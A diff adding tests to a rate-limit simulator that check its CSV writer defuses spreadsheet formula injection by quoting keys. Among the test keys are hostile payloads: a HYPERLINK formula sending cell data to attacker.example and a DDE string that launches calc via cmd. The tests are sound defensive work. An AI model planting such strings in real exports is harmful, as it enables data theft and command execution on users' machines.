@@ -7,6 +7,7 @@
 import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { csvKey } from '../../lib/simulator/csv-output.js';
 import { simulate } from '../../lib/simulator/simulate.js';
 import { MAX_RATE_REQUESTS, parseSimulateArgs, SimulateArgumentError, type SimulateOptions } from '../../lib/simulator/simulate-args.js';
 import type { Summary } from '../../lib/simulator/summary.js';
@@ -242,5 +243,47 @@ describe('simulate --rate: a run that ends', () => {
       'simulate: 65,536 of 100,000 requests (65 %), 27,307 requests/s',
       'simulate: 98,304 of 100,000 requests (98 %), 27,307 requests/s',
     ]);
+  });
+});
+
+describe('simulate --csv: keys a spreadsheet would run as formulas', () => {
+  it("writes a key that starts with =, +, -, @, a tab or a carriage return as quoted text after a ' (OWASP), and '-' alone as it is", () => {
+    expect(['=1+2', '+1', '-1+2', '@SUM(A1)', '\tx', '\rx', '=a,"b"', '-', 'a,b', 'say "hi"', "'quoted", 'alice'].map(csvKey)).toEqual([
+      `"'=1+2"`,
+      `"'+1"`,
+      `"'-1+2"`,
+      `"'@SUM(A1)"`,
+      `"'\tx"`,
+      `"'\rx"`,
+      `"'=a,""b"""`,
+      '-',
+      '"a,b"',
+      '"say ""hi"""',
+      "'quoted",
+      'alice',
+    ]);
+  });
+
+  it('keeps a formula in a trace key from reaching the file as one', async () => {
+    const trace = join(dir, 'formulas.ndjson');
+    const csv = join(dir, 'formulas-out.csv');
+    const keys = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd', '\t=1', '\r=1', '', 'bob'];
+    await writeFile(trace, keys.map((key, i) => JSON.stringify({ time: i, key })).join('\n'));
+    await run('--policy', '{"rps":1,"burst":100}', '--trace', trace, '--csv', csv);
+    expect(await readFile(csv, 'utf8')).toBe(
+      [
+        'time_ms,key,allowed,remaining,retry_after',
+        `0,"'=HYPERLINK(""http://attacker.example/?x=""&A1,""click"")",true,99,0`,
+        `1,"'+cmd|' /C calc'!A0",true,99,0`,
+        `2,"'-2+3",true,99,0`,
+        `3,"'@SUM(1+1)*cmd",true,99,0`,
+        `4,"'\t=1",true,99,0`,
+        `5,"'\r=1",true,99,0`,
+        // no key: the client '-', as the summary names it
+        '6,-,true,99,0',
+        '7,bob,true,99,0',
+        '',
+      ].join('\n'),
+    );
   });
 });
